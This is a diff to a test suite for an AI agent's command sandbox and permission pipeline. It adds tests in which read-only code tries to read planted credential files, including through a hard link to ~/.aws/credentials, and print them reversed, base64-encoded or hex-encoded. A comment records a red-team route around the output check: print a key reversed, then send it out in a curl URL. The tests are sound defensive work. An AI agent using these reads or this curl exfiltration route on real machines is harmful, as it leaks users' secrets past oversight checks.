@@ -4,7 +4,7 @@
 // Real pipeline, real files, real bubblewrap: each run is decided on a harmless line and given
 // the hostile one, so what holds is the sandbox and the output check, not a reading of the text.
 import { execFileSync } from 'node:child_process';
-import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
+import { link, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { createServer } from 'node:net';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -59,10 +59,10 @@ const hex = (text: string): string => Buffer.from(text).toString('hex');
 const printed = (result: Record<string, unknown>): string =>
   String(result.stdout).replace(/\s/g, '');
 
-describe('a credential kept under an ordinary name (~/notes/keys.txt)', () => {
+describe('a credential kept under an ordinary name in the work tree (notes/keys.txt)', () => {
   it('does not come out of read-only code plainly, in base64 (one line or wrapped) or in hex', async () => {
-    await plant(join(home, 'notes', 'keys.txt'), KEYS);
-    const file = `open(os.environ['HOME']+'/notes/keys.txt','rb').read()`;
+    await plant(join(project, 'notes', 'keys.txt'), KEYS);
+    const file = `open('notes/keys.txt','rb').read()`;
     const urlSafe = b64(KEYS).replace(/\+/g, '-').replace(/\//g, '_');
     const lines: readonly (readonly [string, string])[] = [
       [`python3 -c "import os; print(${file}.decode())"`, AWS_SECRET],
@@ -74,9 +74,9 @@ describe('a credential kept under an ordinary name (~/notes/keys.txt)', () => {
         `python3 -c "import base64,os; print(base64.b64encode(base64.b64encode(${file})).decode())"`,
         b64(b64(KEYS)),
       ],
-      ['base64 ~/notes/keys.txt', b64(KEYS)],
-      ['xxd -p ~/notes/keys.txt', hex(KEYS)],
-      ['od -An -tx1 ~/notes/keys.txt', hex(KEYS)],
+      ['base64 notes/keys.txt', b64(KEYS)],
+      ['xxd -p notes/keys.txt', hex(KEYS)],
+      ['od -An -tx1 notes/keys.txt', hex(KEYS)],
     ];
     for (const [line, encoded] of lines) {
       const result = await runReadOnly('python3 -c "print(1)"', line);
@@ -154,15 +154,120 @@ print(children)"`;
   });
 });
 
-describe('open after red team 2 (docs/notes/2026-11-26-s5/redteam2.md)', () => {
-  // Seen in real runs: read-only code prints ~/notes/keys.txt reversed (no output check can know
-  // it), and `curl -fsSL https://host/<that text>` then runs without a card (fetch tier). Every
-  // file readable without a card can be sent out this way; the content check only holds plain,
-  // base64 and hex forms.
-  it.todo(
-    'a credential under an ordinary name cannot leave through read-only code that transforms it and a fetch',
-  );
-  // The path check knows a hard link to a store file (hardLinkProtection); the sandbox masks
-  // only names, so code that opens the other name reads the key.
-  it.todo('read-only code cannot read a store file through a hard link elsewhere in the home');
+// Seen in real runs before: read-only code printed ~/notes/keys.txt reversed (no output check
+// can know it), and `curl -fsSL https://host/<that text>` then ran without a card (fetch tier).
+// Code run without a card now sees the home only where it works: its work tree and the paths it
+// names, each cleared as a read without a card would be (runtime/pipeline/workspace/code-view.ts).
+describe('code run without a card sees the home only where it works', () => {
+  /** Decide `line` in `cwd` (it must run as read-only code) and run it; its result. */
+  async function runDecided(line: string, cwd = project): Promise<Record<string, unknown>> {
+    const outcome = await pipeline.evaluate(call('shell_exec', { command: line, cwd }));
+    expect(outcome, line).toMatchObject({ decision: 'allow', grant: { tier: 'read-only-code' } });
+    const result = await pipeline.invoke(outcome, new AbortController().signal);
+    expect(result).toMatchObject({ ok: true });
+    return result.ok ? (result.result as Record<string, unknown>) : {};
+  }
+  const reversed = (text: string): string => [...text].reverse().join('');
+
+  it('cannot read a credential kept under an ordinary name elsewhere in the home, so no form of it can be sent out', async () => {
+    await plant(join(home, 'notes', 'keys.txt'), KEYS);
+    const lines = [
+      `python3 -c "import os; print(open(os.environ['HOME']+'/notes/keys.txt').read()[::-1])"`,
+      `perl -e 'open(F, "$ENV{HOME}/notes/keys.txt") or die "No such file"; print scalar reverse <F>'`,
+      `node -e "console.log([...require('fs').readFileSync(process.env.HOME+'/notes/keys.txt','utf8')].reverse().join(''))"`,
+    ];
+    for (const line of lines) {
+      const result = await runDecided(line);
+      expect(result.exit_code, line).not.toBe(0);
+      expect(String(result.stdout), line).not.toContain(reversed(AWS_ID));
+      expect(result.note, line).toMatch(/a file elsewhere in the home is not there/);
+    }
+  });
+
+  it('asks when the code names such a file, and shows it an ordinary file it names', async () => {
+    await plant(join(home, 'notes', 'keys.txt'), KEYS);
+    await plant(join(home, 'Documents', 'budget.csv'), 'rent,900\n');
+    const named = `python3 -c "import sys; print(open(sys.argv[1]).read()[::-1])" ~/notes/keys.txt`;
+    expect(
+      await pipeline.evaluate(call('shell_exec', { command: named, cwd: project })),
+    ).toMatchObject({ decision: 'ask' });
+    const budget = await runDecided(
+      `python3 -c "import os,sys; print(open(sys.argv[1]).read().strip(), os.path.exists(os.environ['HOME']+'/notes'))" ~/Documents/budget.csv`,
+    );
+    expect(budget).toMatchObject({ exit_code: 0, stdout: 'rent,900 False\n' });
+  });
+
+  it('run from the home itself, sees none of it', async () => {
+    await plant(join(home, 'notes', 'keys.txt'), KEYS);
+    const result = await runDecided(
+      `python3 -c "import os; print(os.path.exists('notes/keys.txt'), os.path.exists('${project}/package.json'))"`,
+      home,
+    );
+    expect(result).toMatchObject({ exit_code: 0, stdout: 'False False\n' });
+  });
+
+  it('cannot read a store file through a hard link elsewhere in the home, and asks over a work tree holding one', async () => {
+    const store = join(home, '.aws', 'credentials');
+    await plant(store, KEYS);
+    await mkdir(join(home, 'backup-rt2'), { recursive: true });
+    const elsewhere = join(home, 'backup-rt2', 'aws.bak');
+    await rm(elsewhere, { force: true });
+    await link(store, elsewhere);
+    const result = await runDecided(
+      `python3 -c "import os; print(open(os.environ['HOME']+'/backup-rt2/aws.bak').read()[::-1])"`,
+    );
+    expect(String(result.stdout)).not.toContain(reversed(AWS_ID));
+    await link(store, join(project, 'aws-copy.txt'));
+    expect(
+      await pipeline.evaluate(
+        call('shell_exec', { command: 'python3 -c "print(1)"', cwd: project }),
+      ),
+    ).toMatchObject({ decision: 'ask' });
+  });
+
+  it('leaves project code with nothing pending as it was: it sees the whole home', async () => {
+    await plant(join(home, 'notes', 'todo.txt'), 'water the plants\n');
+    await writeFile(
+      join(project, 'package.json'),
+      JSON.stringify({ scripts: { test: 'cat "$HOME/notes/todo.txt"' } }),
+    );
+    const outcome = await pipeline.evaluate(
+      call('shell_exec', { command: 'npm test', cwd: project }),
+    );
+    expect(outcome).toMatchObject({ decision: 'allow', grant: { tier: 'project-code' } });
+    expect(outcome.decision === 'allow' && 'homeView' in outcome.grant).toBe(false);
+    const result = await pipeline.invoke(outcome, new AbortController().signal);
+    expect(result).toMatchObject({
+      ok: true,
+      result: { stdout: expect.stringContaining('water the plants') },
+    });
+  });
+
+  it('still finds the tools it starts with: PATH entries under the home and the user site python imports from', async () => {
+    const version = execFileSync(
+      'python3',
+      ['-c', 'import sys; print("%d.%d" % sys.version_info[:2])'],
+      {
+        encoding: 'utf8',
+      },
+    ).trim();
+    await plant(
+      join(home, '.local', 'lib', `python${version}`, 'site-packages', 'rt2_user_module.py'),
+      'WHERE = "user site"\n',
+    );
+    await plant(join(home, 'rt2-tools', 'bin', 'rt2-tool'), '#!/bin/sh\necho tool\n');
+    pipeline.close();
+    pipeline = await pipelineWith(
+      { roots: { write: ['~', '/tmp'] } },
+      {
+        ...process.env,
+        PATH: `${join(home, 'rt2-tools', 'bin')}:${process.env.PATH ?? ''}`,
+        XDG_STATE_HOME: await makeTempDir('state-'),
+      },
+    );
+    const result = await runDecided(
+      `python3 -c "import os, rt2_user_module; print(rt2_user_module.WHERE, os.path.exists(os.environ['HOME']+'/rt2-tools/bin/rt2-tool'))"`,
+    );
+    expect(result).toMatchObject({ exit_code: 0, stdout: 'user site True\n' });
+  });
 });
